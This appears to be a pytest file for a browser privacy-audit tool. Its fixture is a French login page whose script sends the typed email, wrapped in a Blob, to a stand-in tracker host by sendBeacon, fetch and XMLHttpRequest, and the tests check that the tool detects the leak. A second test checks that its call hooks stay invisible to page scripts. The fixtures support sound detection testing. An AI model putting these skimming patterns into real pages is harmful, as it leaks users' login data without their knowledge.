"""What is sent in a Blob, as beacons mostly are: the browser tells its watchers nothing of it."""

from __future__ import annotations

from typing import Any

import pytest

TRACKER = "https://stats.traceur-essai.test/"
PAGE = """<!doctype html><html lang="fr"><title>Connexion</title><h1>Connexion</h1>
<form><label>Adresse électronique <input type="email" name="email"></label></form><script>
document.querySelector("input").addEventListener("blur", function () {
  const body = new Blob([JSON.stringify({ field: "login", value: %s })], { type: "text/plain" });
  %s
});
</script>"""
WAYS = {
    "a beacon": f"navigator.sendBeacon('{TRACKER}b', body);",
    "a beacon on leaving": f"addEventListener('pagehide', () => navigator.sendBeacon('{TRACKER}b', body));",
    "fetch": f"fetch('{TRACKER}b', {{ method: 'POST', mode: 'no-cors', body }});",
    "an old request": f"const x = new XMLHttpRequest(); x.open('POST', '{TRACKER}b'); x.send(body);",
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize(("value", "leaks"), [("this.value", ("email",)), ("'lu'", ())])
def test_what_was_typed_is_found_in_a_blob(stage: Any, way: str, value: str, leaks: tuple[str, ...]) -> None:
    stage.tool({"index.html": "<title>Outil</title><h1>Outil</h1>", "connexion.html": PAGE % (value, way)})
    stage.tracker()
    run = stage.look([("connexion", "login", "learner")], phases=("before-choice",)).run("before-choice")
    sent = [one for one in run.requests if one.url == f"{TRACKER}b" and one.left and one.method == "POST"]
    assert sent and {one.leaks for one in sent} == {leaks}


def test_the_calls_look_untouched_and_return_what_they_did(stage: Any) -> None:
    code = """const body = new Blob(["x"]); const said = [String(navigator.sendBeacon), String(fetch), fetch.name,
    navigator.sendBeacon("/b", body), fetch("/b", { method: "POST", body }) instanceof Promise,
    navigator.sendBeacon("/c", "text"), XMLHttpRequest.prototype.send.length].join("|");
    localStorage.setItem("dit", said);"""
    stage.tool({"index.html": f"<title>t</title><h1>Outil</h1><script>{code}</script>"})
    seen = stage.look(phases=("before-choice",))
    kept = next(one for one in seen.evidence.phases[0].storage if one.key == "dit")
    native = "function {}() {{ [native code] }}"
    said = "|".join([native.format("sendBeacon"), native.format("fetch"), "fetch", "true", "true", "true", "0"])
    assert kept.size == len(said)
